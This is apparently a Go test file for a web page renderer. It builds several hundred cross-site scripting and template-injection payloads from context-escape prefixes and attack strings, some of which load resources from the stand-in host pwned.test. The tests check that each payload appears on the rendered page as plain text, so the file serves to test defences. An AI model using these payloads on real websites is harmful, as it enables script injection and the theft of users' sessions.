package page

import (
	"html"
	"net/url"
	"strings"
	"testing"
)

// contextEscapes are the prefixes that try to leave the context of a value: an attribute, an
// element whose content isn't parsed, or a comment.
var contextEscapes = []string{
	"", `"`, `'`, ">", `">`, `'>`, "`>", "/>", "</p>", "</h1>", "</bdi>", "</title>", "</style>", "</script>",
	"</noscript>",
	"-->", "--!>", "]]>", "</span>", `" x="`, "\\\">", "&quot;>", "&#34;&#62;", "%22%3E",
}

// attacks would then call pwned, or fetch from another host.
var attacks = []string{
	"<script>pwned()</script>",
	"<ScRiPt >pwned()</sCrIpT\t>",
	"<script>pwned()//",
	"<script src=//pwned.test></script>",
	"<script\x0ctype=module>pwned()</script>",
	"<img src=x onerror=pwned()>",
	"<img/src=x/onerror=pwned()>",
	"<IMG SRC=x oNeRrOr=pwned()>",
	"<svg onload=pwned()>",
	"<svg/onload=pwned()//",
	"<svg><script>pwned()</script></svg>",
	"<svg><animate onbegin=pwned() attributeName=x>",
	"<math><mtext><img src=x onerror=pwned()>",
	"<body onload=pwned()>",
	"<iframe src=javascript:parent.pwned()>",
	"<iframe srcdoc='<script>top.pwned()</script>'>",
	"<object data=javascript:pwned()>",
	"<embed src=javascript:pwned()>",
	"<details open ontoggle=pwned()>",
	"<input autofocus onfocus=pwned()>",
	"<video><source onerror=pwned()>",
	"<audio src=x onerror=pwned()>",
	"<style>@import '//pwned.test';</style>",
	"<style>*{background:url(//pwned.test)}</style>",
	"<link rel=stylesheet href=//pwned.test>",
	"<meta http-equiv=refresh content=0;//pwned.test>",
	"<base href=//pwned.test>",
	"<form action=//pwned.test><button>",
	"<marquee onstart=pwned()>",
	"<x onfocus=pwned() tabindex=1 autofocus>",
	"<template><script>pwned()</script></template>",
	"<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
}

// evaluatedPayloads don't leave their context. They work only if another part evaluates them.
var evaluatedPayloads = []string{
	"javascript:pwned()", "JaVaScRiPt:pwned()", "java\tscript:pwned()",
	"data:text/html,<script>pwned()</script>", "vbscript:pwned",
	`" onfocus=pwned() autofocus="`, `' onfocus='pwned()' autofocus '`, `" formaction="javascript:pwned()`,
	`" form="x" type="image`,
	`" style="background:url(//pwned.test)`, `" http-equiv="refresh" content="0;url=//pwned.test`,
	`"accesskey=x onclick=pwned() "`,
	"{{.Token}}", "{{pwned}}", `{{define "sign-in"}}x{{end}}`, `{{template "head" .}}`, "{{/*", "*/}}",
	"{{- 1 -}}", `{{"<script>"}}`,
	"{brand}", "{{brand}}", "{ brand }", "${pwned()}", "#{pwned()}", "<%= pwned() %>", "<?= pwned() ?>",
	"{% include 'x' %}", "{{7*7}}",
	"{{constructor.constructor('pwned()')()}}", "{{$on.constructor('pwned()')()}}", "@(1+1)", "*{pwned()}",
	"[[${1+1}]]", "~{::x}", "{!pwned!}",
	"\\x3cscript\\x3epwned()", "\\u003cscript\\u003epwned()", "%3Cscript%3Epwned()", "&lt;script&gt;pwned()",
	"&#60;script&#62;pwned()",
	"&#x3c;script&#x3e;pwned()", "&LT;script&GT;pwned()", "&lt script &gt pwned()", "+ADw-script+AD4-pwned()",
	"\uff1cscript\uff1epwned()",
	"<<script>script>pwned()", "<scr<script>ipt>pwned()</scr</script>ipt>", "<!--<script>pwned()",
	"<![CDATA[<script>pwned()]]>",
	"<!--[if IE]><script>pwned()<![endif]-->", "<plaintext>", "<xmp><script>pwned()</xmp>",
	"</body></html><script>pwned()",
	"';pwned();'", `";pwned();"`, "`;pwned();`", "');pwned();//", "pwned()", "-pwned()-",
	"</form><form id=sign-in>", "<b name=submit>",
	"$&", "$1", "$`", "\\1", "%s%d%n", "DeskmintsMark0e", "ZgotmplZ", "&", "&&", "&amp;amp;", "&#0;",
	"&#xD800;", "&nbsp", "&notin;x",
}

// Payloads returns hostile values.
func Payloads() []string {
	all := append([]string{}, evaluatedPayloads...)
	for _, exit := range contextEscapes {
		for _, attack := range attacks {
			all = append(all, exit+attack)
		}
	}
	return all
}

// TestPayloadsRoundTrip checks that each payload reaches every part of the page that contains a
// text, and is read there byte for byte.
func TestPayloadsRoundTrip(t *testing.T) {
	reached := map[string]int{}
	all := Payloads()
	for _, payload := range all {
		frame := acme()
		frame.Scope = payload
		frame.Action += "?" + url.QueryEscape(payload)
		if (Frame{
			Brand:             payload,
			Scope:             "x",
			Action:            frame.Action,
			FormActionSources: frame.FormActionSources,
		}).withDefaults().check() == nil {
			frame.Brand = payload
			reached["brand"]++
		}
		var settings Settings
		for field, text := range map[string]*string{
			"title":   &settings.Title,
			"message": &settings.Message,
			"button":  &settings.Button,
		} {
			*text = payload
			if invalidKeys(settings) != nil {
				*text = "" // the checks reject a control character or a long text; other tests cover that
				continue
			}
			reached[field]++
		}
		p := mustNew(t, settings, frame)
		checkPayload(t, payload, p, settings, frame)
		reached["token, return_to, scope, action"]++
	}
	t.Logf("%d payloads: %v", len(all), reached)
	for field, n := range reached {
		if n < 300 {
			t.Errorf("only %d payloads reached %s", n, field)
		}
	}
}

func checkPayload(t *testing.T, payload string, p *Page, settings Settings, frame Frame) {
	t.Helper()
	page := p.Render(payload, payload)
	checkParsed(t, p, payload, payload)
	form := findAll(t, page, "form")[0]
	heading, title := findAll(t, page, "h1")[0], findAll(t, page, "title")[0]
	got := map[string]string{
		"data-scope": attribute(form, "data-scope"),
		"action":     attribute(form, "action"),
		"brand":      visibleText(findAll(t, page, "bdi")[0]),
	}
	want := map[string]string{"data-scope": frame.Scope, "action": frame.Action, "brand": frame.Brand}
	if settings.Title != "" {
		got["title"], want["title"] = visibleText(title), settings.Title
		got["heading"], want["heading"] = visibleText(heading), settings.Title
	}
	if settings.Message != "" {
		got["message"], want["message"] = visibleText(heading.NextSibling), settings.Message
	}
	if settings.Button != "" {
		got["button"], want["button"] = visibleText(findAll(t, page, "button")[0]), settings.Button
	}
	for field := range want {
		if got[field] != want[field] {
			t.Errorf("%s reads %q, want %q", field, got[field], want[field])
		}
	}
	for problem := range problems {
		html := p.RenderProblem(problem)
		if got := visibleText(findAll(t, html, "bdi")[0]); got != frame.Brand {
			t.Errorf("problem %d: the brand reads %q, want %q", problem, got, frame.Brand)
		}
		if got := visibleText(findAll(t, html, "section")[0]); !strings.Contains(got, frame.Brand) {
			t.Errorf("problem %d: the page reads %q, and not %q", problem, got, frame.Brand)
		}
	}
}

// TestPayloadCount checks that there are enough payloads, that all are different, and that enough
// of them would harm a page that doesn't escape.
func TestPayloadCount(t *testing.T) {
	seen, escaped := map[string]bool{}, 0
	for _, payload := range Payloads() {
		seen[payload] = true
		if html.EscapeString(payload) != payload {
			escaped++
		}
	}
	if len(seen) < 300 || len(seen) != len(Payloads()) || escaped < 300 {
		t.Errorf("%d payloads, %d different, %d with markup", len(Payloads()), len(seen), escaped)
	}
}
